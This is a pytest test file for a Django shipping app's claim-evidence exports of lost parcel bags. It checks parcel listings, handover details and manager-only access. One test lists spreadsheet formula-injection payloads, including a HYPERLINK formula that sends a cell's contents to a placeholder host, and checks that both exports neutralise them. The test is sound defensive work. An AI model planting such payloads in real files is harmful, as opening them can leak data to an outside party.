"""Claim evidence of a lost bag opens in a spreadsheet and lists every parcel in it."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from fulfillment.tests.factories import ShopFactory
from pickups import services
from pickups.exports import claim_evidence_csv, claim_evidence_xlsx
from pickups.models import ConsolidationBag
from pickups.tests.factories import PickupCoverageFactory, parcels_for

pytestmark = pytest.mark.django_db


@pytest.fixture
def lost_bag(manager_user):
    PickupCoverageFactory(province="浙江省", city="")
    shop = ShopFactory(code="acme")
    bag = services.bag_create(shop=shop, sorting_centre="SZ", by=None)
    ConsolidationBag.objects.filter(pk=bag.pk).update(gross_weight_kg=9, length_cm=50, width_cm=40, height_cm=30)
    parcels = parcels_for(shop, 4)
    for i, parcel in enumerate(parcels):
        parcel.weight_kg = Decimal("0.5") + i
        parcel.declared_value = Decimal("100.00") * (i + 1)
        parcel.save()
    services.bag_add_parcels(bag=bag, tracking_numbers=[p.tracking_no for p in parcels], by=None)
    services.bag_seal(bag=bag, by=None)
    sheet = services.handover_sheet_create(
        shop=shop,
        carrier=parcels[0].carrier,
        pickup_address="x",
        pickup_province="浙江省",
        pickup_city="杭州市",
        window_start=timezone.now(),
        window_end=timezone.now() + datetime.timedelta(hours=1),
        bags=[bag],
        by=None,
    )
    services.handover_sheet_book(sheet=sheet, by=None)
    services.handover_sheet_confirm_pickup(sheet=sheet, picked_up_at=timezone.now(), agent="A")
    services.bag_report_lost(bag=bag, by=manager_user, note="the carrier lost it")
    bag.refresh_from_db()
    return bag, parcels


def expected_rows(parcels):
    return {(p.order.order_id, p.tracking_no, f"{p.weight_kg:.3f}", f"{p.declared_value:.2f}") for p in parcels}


def test_csv_lists_every_parcel(lost_bag):
    bag, parcels = lost_bag
    content = claim_evidence_csv(bag)
    assert content.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert len(rows) == 4
    assert {
        (r["order id"], r["tracking number"], r["weight (kg)"], r["declared value"]) for r in rows
    } == expected_rows(parcels)
    assert {r["order amount"] for r in rows} == {"199.00"}


def test_xlsx_lists_every_parcel(lost_bag):
    bag, parcels = lost_bag
    book = openpyxl.load_workbook(io.BytesIO(claim_evidence_xlsx(bag)))
    sheet = book[bag.number]
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert header[:4] == ["bag number", "order id", "tracking number", "carrier"]
    assert len(rows) == 4
    assert {(r[1], r[2], f"{Decimal(str(r[4])):.3f}", f"{Decimal(str(r[5])):.2f}") for r in rows} == expected_rows(
        parcels
    )
    assert sum(r[5] for r in rows) == 1000  # values are numbers a claim form can add up


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_managers_download_the_evidence_from_the_bag_page(manager_client, lost_bag, fmt):
    bag, parcels = lost_bag
    page = manager_client.get(reverse("admin:pickups_consolidationbag_change", args=[bag.pk])).content.decode()
    url = reverse("admin:pickups_consolidationbag_claim_evidence", args=[bag.pk, fmt])
    assert url in page
    response = manager_client.get(url)
    assert response.status_code == 200
    assert f"claim-evidence-{bag.number}" in response["Content-Disposition"]
    body = response.content
    if fmt == "csv":
        assert len(list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))) == 5
    else:
        assert openpyxl.load_workbook(io.BytesIO(body))[bag.number].max_row == 5


def test_the_warehouse_may_not_export(warehouse_client, lost_bag):
    bag, _ = lost_bag
    url = reverse("admin:pickups_consolidationbag_claim_evidence", args=[bag.pk, "csv"])
    assert warehouse_client.get(url).status_code == 403


def test_no_evidence_for_a_bag_not_reported_lost(manager_client):
    bag = services.bag_create(shop=ShopFactory(code="x"), sorting_centre="YW", by=None)
    response = manager_client.get(
        reverse("admin:pickups_consolidationbag_claim_evidence", args=[bag.pk, "csv"]), follow=True
    )
    assert "reported lost only" in response.content.decode()


HOSTILE = ['=HYPERLINK("http://x/?"&B2,"Claim")', "+1+2", "-2+3", "@SUM(1+1)"]


def test_formula_leading_text_is_inert_in_both_exports_and_numbers_stay_numbers(lost_bag):
    """OWASP CSV injection: imported text reaches the claim evidence as text, never as a formula."""
    bag, parcels = lost_bag
    for parcel, hostile in zip(parcels, HOSTILE, strict=True):
        parcel.order.order_id = hostile
        parcel.order.save(update_fields=["order_id"])

    rows = list(csv.reader(io.StringIO(claim_evidence_csv(bag).decode("utf-8-sig"))))
    order_ids = {row[1] for row in rows[1:]}
    assert order_ids == {"'" + hostile for hostile in HOSTILE}
    assert {row[4] for row in rows[1:]} == {f"{p.weight_kg:.3f}" for p in parcels}  # numbers untouched

    sheet = openpyxl.load_workbook(io.BytesIO(claim_evidence_xlsx(bag))).active
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert {row[1].value for row in cells} == set(HOSTILE)  # the text itself, shown as typed
    assert all(row[1].data_type == "s" for row in cells)  # …in text cells, not formula cells
    assert all(isinstance(row[4].value, (int, float)) for row in cells)  # weights still numbers


def test_claim_evidence_carries_the_proof_of_handover(lost_bag):
    bag, _parcels = lost_bag
    rows = list(csv.DictReader(io.StringIO(claim_evidence_csv(bag).decode("utf-8-sig"))))
    from pickups.models import HandoverSheet

    sheet = HandoverSheet.objects.get(items__bag=bag)
    assert {r["handover sheet"] for r in rows} == {sheet.number}
    assert {r["pickup agent"] for r in rows} == {"A"}
    assert {r["bag sealed weight (kg)"] for r in rows} == {"9.00"}
    assert all(r["bag sealed at"] for r in rows)
